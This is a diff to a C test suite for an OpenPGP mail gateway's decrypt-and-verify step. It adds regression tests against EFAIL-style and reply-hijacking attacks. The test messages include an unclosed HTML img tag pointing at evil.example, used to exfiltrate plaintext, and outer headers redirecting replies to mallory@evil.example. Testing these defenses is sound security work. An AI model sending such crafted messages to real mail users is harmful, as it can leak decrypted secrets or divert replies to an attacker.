@@ -1,7 +1,8 @@
 /* test_unwrap.c - the single decrypt/verify entry point (src/cryptd/unwrap.c) over the
  * registered engines with a real keystore: plain mail untouched, forged result fields removed
  * (only our authserv-id), encrypted mail for readers and the others, the stamps' exact form,
- * a signature wrapper around an encrypted body, sign-then-encrypt, the layer limit.
+ * a signature wrapper around an encrypted body, sign-then-encrypt, the layer limit; ciphertext
+ * beside other parts or text never opened, reply fields only from protected headers.
  * Owner: src/cryptd (OpenPGP). */
 #include <pthread.h>
 #include <stdio.h>
@@ -174,8 +175,16 @@ static void test_signed(sg_buf *m)
     sg_unwrap_result_free(&u);
 }
 
-/* Layers below the top and inline blocks inside text (step 3 of issue 3). */
-static void test_nested(const char *alice, const char *bob)
+/* The message is delivered as it arrived, stamped embedded-ciphertext, no plaintext in it. */
+static bool closed(const sg_unwrap_result *u, const char *m, const char *secret)
+{
+    return !u->readable[0] && !u->reader_msg && u->other_msg && strcmp(body(u->other_msg), body(m)) == 0 &&
+           strstr(u->other_msg, "X-Sealgate-Decryption: none; reason=embedded-ciphertext\r\n") &&
+           !strstr(u->other_msg, secret);
+}
+
+/* Ciphertext inside a wrapper of someone else's (issue 9, item 6): never opened. */
+static void test_embedded(const char *alice, const char *bob)
 {
     char to[1][SG_PGP_FPR_LEN + 1], err[200], *arm = NULL;
     size_t alen = 0;
@@ -188,45 +197,82 @@ static void test_nested(const char *alice, const char *bob)
     sg_buf_init(&b, SG_MIME_MAX_OUT);
     sg_unwrap_result u;
 
-    /* An armored block inside other text: kept as it is, the plaintext beside it. */
-    sg_buf_appendf(&m, "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: partly\r\n"
-                       "Content-Type: text/plain; charset=utf-8\r\n\r\nLook at this:\r\n\r\n%.*s\r\nregards\r\n",
+    /* An armored block inside other text. */
+    sg_buf_appendf(&m,
+                   "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: partly\r\n"
+                   "Content-Type: text/plain; charset=utf-8\r\n\r\nLook at this:\r\n\r\n%.*s\r\nregards\r\n",
                    (int)alen, arm ? arm : "");
-    const char *orig_body = body(m.data);
     int rc = ok ? unwrap(m.data, m.len, 8, &u) : -1;
-    CHECK(rc == 0 && u.readable[0] && u.reader.dec == SG_UNWRAP_DEC_PARTIAL &&
-              strcmp(u.reader.dec_reason, "armored-blocks-in-text") == 0 &&
-              strstr(u.reader_msg, "X-Sealgate-Decryption: partial; reason=armored-blocks-in-text\r\n") &&
-              strstr(u.reader_msg, "Content-Type: multipart/mixed") && strstr(u.reader_msg, orig_body) &&
-              strstr(u.reader_msg, "filename=decrypted-1.txt") && strstr(u.reader_msg, "\r\n\r\nthe inline secret\r\n"),
-          "inline block inside text: text kept byte for byte, plaintext as attachment decrypted-1.txt, partial");
-    CHECK(rc == 0 && u.reader.sig.sig == SG_SIG_INVALID && strcmp(u.reader.sig.reason, "not-whole-message") == 0 &&
-              strcmp(u.reader.sig.signer, alice) == 0,
-          "inline block inside text: its good signature does not count for the message (not-whole-message)");
+    CHECK(rc == 0 && closed(&u, m.data, "inline secret"),
+          "inline block inside text: not decrypted, text byte for byte, embedded-ciphertext");
+    if (rc == 0)
+        sg_unwrap_result_free(&u);
+    /* The same block as the whole text of a part, beside the attacker's text part. */
+    sg_buf_reset(&m);
+    sg_buf_appendf(
+        &m,
+        "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
+        "Content-Type: multipart/mixed; boundary=\"L\"\r\n\r\n--L\r\nContent-Type: text/plain\r\n\r\n"
+        "Please quote this in your reply:\r\n--L\r\nContent-Type: text/plain\r\n\r\n%.*s\r\n--L--\r\n",
+        (int)alen, arm ? arm : "");
+    rc = ok ? unwrap(m.data, m.len, 8, &u) : -1;
+    CHECK(rc == 0 && closed(&u, m.data, "inline secret"),
+          "whole-text block in a part beside attacker text: closed");
     if (rc == 0)
         sg_unwrap_result_free(&u);
 
-    /* A mailing list: multipart/mixed around multipart/encrypted and a footer. */
+    /* multipart/mixed around multipart/encrypted and a text part (a list footer, or the
+     * attacker's words), as multipart/alternative, and beside HTML. */
     const char inner_msg[] = "From: alice@example.net\r\nTo: list@demo.test\r\nSubject: s\r\n"
                              "Content-Type: text/plain\r\n\r\nlist secret\r\n";
     rc = protect(inner_msg, sizeof inner_msg - 1, SG_SIGN_SENDER, "bob@demo.test", &b);
     const char *ct = rc == 0 ? strstr(b.data, "Content-Type: multipart/encrypted") : NULL;
-    const char footer[] = "--L\r\nContent-Type: text/plain\r\n\r\n-- \r\nlist footer\r\n--L--\r\n";
+    static const char *const shapes[][2] = {
+        {"mixed", "Content-Type: text/plain\r\n\r\n-- \r\nlist footer\r\n"},
+        {"alternative", "Content-Type: text/plain\r\n\r\nPlease reply with the text quoted.\r\n"},
+        {"mixed", "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n"},
+    };
+    for (size_t i = 0; i < sizeof shapes / sizeof *shapes; i++) {
+        sg_buf_reset(&m);
+        bool first = i == 1; /* the attacker's plain text as the alternative shown first */
+        sg_buf_appendf(
+            &m,
+            "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
+            "Content-Type: multipart/%s; boundary=\"L\"\r\n\r\n--L\r\n%s\r\n--L\r\n%s\r\n--L--\r\n",
+            shapes[i][0],
+            first ? shapes[i][1]
+            : ct  ? ct
+                  : "",
+            first ? ct ? ct : "" : shapes[i][1]);
+        rc = ct ? unwrap(m.data, m.len, 8, &u) : -1;
+        CHECK(rc == 0 && closed(&u, m.data, "list secret") && !u.readable[1],
+              "multipart/%s with ciphertext beside %s: not opened, body unchanged, embedded-ciphertext",
+              shapes[i][0], i == 2 ? "HTML" : "text");
+        if (rc == 0)
+            sg_unwrap_result_free(&u);
+    }
+
+    /* The attacker encrypts a wrapper of their own to bob: the outer layer opens, the victim's
+     * ciphertext inside it beside the attacker's text stays closed. */
+    sg_buf wrapper;
+    sg_buf_init(&wrapper, SG_MIME_MAX_OUT);
+    sg_buf_appendf(
+        &wrapper,
+        "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: fwd\r\nMIME-Version: 1.0\r\n"
+        "Content-Type: multipart/mixed; boundary=\"W\"\r\n\r\n--W\r\nContent-Type: text/plain\r\n\r\n"
+        "quote me\r\n--W\r\n%s\r\n--W--\r\n",
+        ct ? ct : "");
     sg_buf_reset(&m);
-    sg_buf_appendf(&m, "From: alice@example.net\r\nTo: list@demo.test\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
-                       "Content-Type: multipart/mixed; boundary=\"L\"\r\n\r\n--L\r\n%s\r\n%s",
-                   ct ? ct : "", footer);
-    rc = ct ? unwrap(m.data, m.len, 8, &u) : -1;
-    CHECK(rc == 0 && u.readable[0] && u.reader.dec == SG_UNWRAP_DEC_PARTIAL &&
-              strcmp(u.reader.dec_reason, "embedded-part") == 0 && strstr(u.reader_msg, "\r\n\r\nlist secret\r\n\r\n--L\r\n") &&
-              strstr(u.reader_msg, footer) && !strstr(u.reader_msg, "multipart/encrypted") &&
-              strstr(u.reader_msg, "boundary=\"L\""),
-          "mailing list: the encrypted part opened in its place, footer byte for byte, partial");
-    CHECK(rc == 0 && u.reader.sig.sig == SG_SIG_INVALID && strcmp(u.reader.sig.reason, "not-whole-message") == 0 &&
-              u.other_msg && strstr(u.other_msg, "X-Sealgate-Decryption: none; reason=no-key") && !u.readable[1],
-          "mailing list: the part's signature not counted; carl gets it closed");
+    rc = ct ? protect(wrapper.data, wrapper.len, SG_SIGN_NONE, "bob@demo.test", &m) : -1;
+    rc = rc == 0 ? unwrap(m.data, m.len, 8, &u) : -1;
+    CHECK(rc == 0 && u.readable[0] && u.reader_msg && u.reader.dec == SG_UNWRAP_DEC_PARTIAL &&
+              strcmp(u.reader.dec_reason, "embedded-ciphertext") == 0 && strstr(u.reader_msg, "quote me") &&
+              strstr(u.reader_msg, "multipart/encrypted") && !strstr(u.reader_msg, "list secret"),
+          "encrypted wrapper around ciphertext and text: outer opened, inner closed, partial "
+          "embedded-ciphertext");
     if (rc == 0)
         sg_unwrap_result_free(&u);
+    sg_buf_free(&wrapper);
 
     /* "Mixed-up" PGP/MIME (MS Exchange, ProtonMail): repaired only behind a placeholder. */
     const char *arm2 = ct ? strstr(ct, "-----BEGIN PGP MESSAGE-----") : NULL;
@@ -249,22 +295,63 @@ static void test_nested(const char *alice, const char *bob)
         if (rc == 0)
             sg_unwrap_result_free(&u);
     }
+    free(arm);
+    sg_buf_free(&m);
+    sg_buf_free(&b);
+}
 
-    /* The same with an attacker's HTML part before it (rc-openpgp-mixed-subpart): closed. */
-    sg_buf_reset(&m);
-    sg_buf_appendf(&m, "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
-                       "Content-Type: multipart/mixed; boundary=\"L\"\r\n\r\n--L\r\nContent-Type: text/html\r\n\r\n"
-                       "<img src=\"http://evil.example/?\r\n--L\r\n%s\r\n%s",
-                   ct ? ct : "", footer);
-    rc = ct ? unwrap(m.data, m.len, 8, &u) : -1;
-    CHECK(rc == 0 && !u.readable[0] && !u.reader_msg && u.other_msg && strcmp(body(u.other_msg), body(m.data)) == 0 &&
-              strstr(u.other_msg, "X-Sealgate-Decryption: none; reason=unsafe-mime-structure"),
-          "encrypted part beside HTML: not opened, body unchanged, reason unsafe-mime-structure");
+/* The header fields of m's header, up to the empty line. */
+static bool in_header(const char *m, const char *what)
+{
+    const char *end = strstr(m, "\r\n\r\n"), *at = strstr(m, what);
+    return at && end && at < end;
+}
+
+/* The fields that steer replies come from the protected headers; without them, the stamp says so. */
+static void test_reply_fields(const char *alice, const char *bob)
+{
+    const char msg[] = "From: alice@example.net\r\nTo: bob@demo.test\r\nReply-To: alice-desk@example.net\r\n"
+                       "Subject: secret\r\nContent-Type: text/plain\r\n\r\nthe plan\r\n";
+    const char evil[] =
+        "From: alice@example.net\r\nTo: bob@demo.test\r\nCc: mallory@evil.example\r\n"
+        "Reply-To: mallory@evil.example\r\nMail-Followup-To: mallory@evil.example\r\nSubject: ...\r\n";
+    sg_buf m, x;
+    sg_buf_init(&m, SG_MIME_MAX_OUT);
+    sg_buf_init(&x, SG_MIME_MAX_OUT);
+    sg_unwrap_result u;
+    /* The attacker's own header above alice's protected message. */
+    int rc = protect(msg, sizeof msg - 1, SG_SIGN_SENDER, "bob@demo.test", &m);
+    const char *mv = rc == 0 ? strstr(m.data, "MIME-Version:") : NULL;
+    if (mv)
+        sg_buf_appendf(&x, "%s%s", evil, mv);
+    rc = mv ? unwrap(x.data, x.len, 8, &u) : -1;
+    CHECK(rc == 0 && u.reader_msg && !strstr(u.reader_msg, "mallory") &&
+              in_header(u.reader_msg, "\r\nReply-To: alice-desk@example.net\r\n") &&
+              in_header(u.reader_msg, "\r\nFrom: alice@example.net\r\n") &&
+              strncmp(u.reader_msg, "X-Sealgate-Decryption: full\r\n", 29) == 0,
+          "protected headers: outer Reply-To, Mail-Followup-To and Cc of the wrapper replaced or removed");
+    if (rc == 0)
+        sg_unwrap_result_free(&u);
+    /* No protected headers (a bare entity encrypted): delivered, stamped unprotected-headers. */
+    char to[1][SG_PGP_FPR_LEN + 1], err[200], *arm = NULL;
+    size_t alen = 0;
+    memcpy(to[0], bob, SG_PGP_FPR_LEN + 1);
+    const char ent[] = "Content-Type: text/plain\r\n\r\nno protected headers\r\n";
+    sg_buf_reset(&x);
+    rc = sg_pgpmime_encrypt(sg_engine_pgp_keys(), alice, to, 1, ent, sizeof ent - 1, &arm, &alen, err,
+                            sizeof err) == 0 &&
+                 sg_mime_wrap_encrypted(evil, sizeof evil - 1, arm, alen, &x) == 0
+             ? unwrap(x.data, x.len, 8, &u)
+             : -1;
+    CHECK(rc == 0 && u.reader_msg && u.reader.dec == SG_UNWRAP_DEC_FULL &&
+              strncmp(u.reader_msg, "X-Sealgate-Decryption: full; unprotected-headers\r\n", 50) == 0 &&
+              strstr(body(u.reader_msg), "no protected headers"),
+          "no protected headers: decrypted, stamped full; unprotected-headers");
     if (rc == 0)
         sg_unwrap_result_free(&u);
     free(arm);
     sg_buf_free(&m);
-    sg_buf_free(&b);
+    sg_buf_free(&x);
 }
 
 int main(void)
@@ -284,7 +371,8 @@ int main(void)
     test_plain();
     test_encrypted(alice, &m);
     test_signed(&m);
-    test_nested(alice, bob);
+    test_embedded(alice, bob);
+    test_reply_fields(alice, bob);
     sg_buf_free(&m);
     if (fixture_close(&f) < 0)
         return 1;
